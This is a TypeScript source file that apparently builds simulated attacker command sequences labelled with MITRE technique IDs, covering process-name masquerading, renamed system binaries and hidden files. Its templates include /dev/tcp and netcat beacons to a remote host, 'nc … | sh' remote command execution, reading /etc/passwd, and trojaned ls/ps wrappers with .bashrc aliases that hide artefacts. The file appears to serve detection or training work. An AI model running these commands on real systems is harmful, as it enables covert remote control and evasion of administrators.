import type { Draw } from '../draw.ts';
import type { Attack, Place } from '../scenario.ts';
import { behind, look, maybe, quote, remote, root, workFolder, write } from '../ways.ts';

const KERNEL = [
  '[kworker/0:2]',
  '[kworker/u8:1-events]',
  '[ksoftirqd/1]',
  '[migration/0]',
  '[jbd2/sda1-8]',
  '[kthreadd]',
] as const;
const DAEMONS = [
  'sshd',
  'systemd-journald',
  'cron',
  'dbus-daemon',
  'rsyslogd',
  'agetty',
  'nginx',
  'systemd-resolved',
  'kworker',
  'httpd',
] as const;

function beat(draw: Draw, place: Place): string {
  const { host, port } = remote(draw, place);
  return `for i in $(seq ${draw.int(3, 10)}); do (echo $i > /dev/tcp/${host}/${port}) 2>/dev/null; sleep ${draw.int(3, 9)}; done`;
}

/** A program shows the name of another. */
const name: Attack = {
  name: 'name-of-another',
  family: 'masquerade',
  techniques: ['T1036.003', 'T1036.004', 'T1036.005'],
  as: 'either',
  needs: ['python3', 'perl', 'nc'],
  lines: (draw, place) => {
    const shown = draw.pick([...KERNEL, ...DAEMONS]);
    const { host, port } = remote(draw, place);
    const seconds = draw.int(20, 100);
    const script = `/tmp/${draw.word()}.py`;
    const program = draw.pick([
      `bash -c ${quote(beat(draw, place))}`,
      `sleep ${seconds}`,
      `nc -w 30 ${host} ${port}`,
    ]);
    const [first = '', ...rest] = program.split(' ');
    const ways = [
      [behind(draw, `bash -c ${quote(`exec -a "${shown}" ${first} ${rest.join(' ')}`)}`)],
      [
        write(
          draw,
          script,
          `import ctypes, time, socket\nctypes.CDLL(None).prctl(15, b"${shown.slice(0, 15)}", 0, 0, 0)\nfor i in range(${draw.int(3, 9)}):\n  try:\n    s = socket.create_connection(("${host}", ${port}), 3); s.sendall(b"ok\\n"); s.close()\n  except OSError: pass\n  time.sleep(${draw.int(3, 9)})`,
        ),
        behind(draw, `python3 ${script}`),
        `rm -f ${script}`,
      ],
      [
        `perl -e ${quote(`$0="${shown}"; for(1..${draw.int(4, 12)}){ system("id >/dev/null"); sleep ${draw.int(2, 6)} }`)} &`,
      ],
    ];
    return [
      ...look(draw, draw.int(0, 3)),
      ...draw.pick(ways),
      `sleep ${draw.int(3, 15)}`,
      draw.pick([
        'ps aux | tail -8',
        'ps -eo pid,ppid,comm,args | tail',
        `pgrep -fl '${shown.replace(/[[\]]/g, '')}'`,
        'jobs',
      ]),
      ...maybe(draw, 0.3, 'kill %1 2>/dev/null'),
    ];
  },
};

/** A known program is copied under a name or to a folder that does not draw attention. */
const copy: Attack = {
  name: 'program-renamed',
  family: 'program-renamed',
  techniques: ['T1036.003', 'T1036.005', 'T1564.001', 'T1059.004'],
  as: 'either',
  needs: ['nc', 'curl', 'python3', 'perl'],
  lines: (draw, place) => {
    const folder = draw.chance(0.4)
      ? draw.pick(['/tmp/...', '/dev/shm/ ', '/var/tmp/.. ', '/tmp/.X11-unix', '/var/tmp/.ICE'])
      : workFolder(draw, place);
    const path = quote(`${folder}/${draw.pick([...DAEMONS, draw.word(), `.${draw.word()}`])}`);
    const { host, port } = remote(draw, place);
    const [program, use] = draw.pick([
      ['curl', `${path} -s http://${host}:${port}/${draw.word()}.txt -o /dev/null`],
      ['nc', `id | timeout 10 ${path} -q 1 ${host} ${port} > /dev/null`],
      ['nc', `timeout 40 ${path} ${host} ${port} | sh > /dev/null 2>&1`],
      ['bash', `${path} -c 'id; cat /etc/passwd | tail -3'`],
      ['python3', `${path} -c 'import os; print(os.getuid(), os.listdir("/home"))'`],
      ['perl', `${path} -e 'print \`id\`, \`uname -a\`'`],
      ['sleep', `setsid ${path} ${draw.int(30, 120)} > /dev/null 2>&1 &`],
    ] as const);
    return [
      ...look(draw, draw.int(0, 2)),
      `mkdir -p ${quote(folder)}`,
      `cp $(readlink -f $(which ${program})) ${path}`,
      ...maybe(draw, 0.3, `touch -r /bin/ls ${path}`),
      use,
      ...maybe(draw, 0.4, use),
      ...maybe(draw, 0.4, `${root(place, 'true')}; ls -la ${quote(folder)}`),
      ...maybe(draw, 0.5, `rm -f ${path}`),
    ];
  },
};

/** What was put down is hidden from a look into folders and process lists. */
const hidden: Attack = {
  name: 'files-hidden',
  family: 'files-hidden',
  techniques: ['T1564.001', 'T1014', 'T1574.007'],
  as: 'either',
  needs: ['sudo', 'chattr'],
  lines: (draw, place) => {
    const word = draw.word();
    const folder = draw.pick([
      `/usr/share/.${word}`,
      `/var/lib/.${word}`,
      `/lib/.${word}`,
      '/tmp/...',

      `/etc/.${word}`,
    ]);
    const wrap = draw.pick(['ls', 'ps', 'netstat', 'ss', 'w']);
    return [
      root(place, `mkdir -p ${folder}`),
      root(place, `cp /bin/${draw.pick(['bash', 'sleep', 'cat'])} ${folder}/${draw.word()}`),
      ...maybe(
        draw,
        0.5,
        `${root(place, `tee /usr/local/bin/${wrap}`)} > /dev/null << 'EOF'\n#!/bin/sh\n/usr/bin/${wrap} "$@" | grep -v ${word}\nEOF`,
        root(place, `chmod 755 /usr/local/bin/${wrap}`),
        `hash -r; ${wrap} | tail -3`,
      ),
      ...maybe(draw, 0.4, root(place, `chattr +i ${folder}/*`)),
      ...maybe(
        draw,
        0.4,
        root(
          place,
          `bash -c "mkdir -p /tmp/${draw.word()}; mount --bind \\$_ /proc/self; mount -t tmpfs none ${folder}"`,
        ),
      ),
      ...maybe(draw, 0.5, `echo "alias ${wrap}='${wrap} 2>/dev/null | grep -v ${word}'" >> ~/.bashrc`),
      draw.pick([`ls -la $(dirname ${folder}) | head`, 'ps aux | tail -4', `ls -la ${folder}`]),
    ];
  },
};

export const MASQUERADE: readonly Attack[] = [name, copy, hidden];
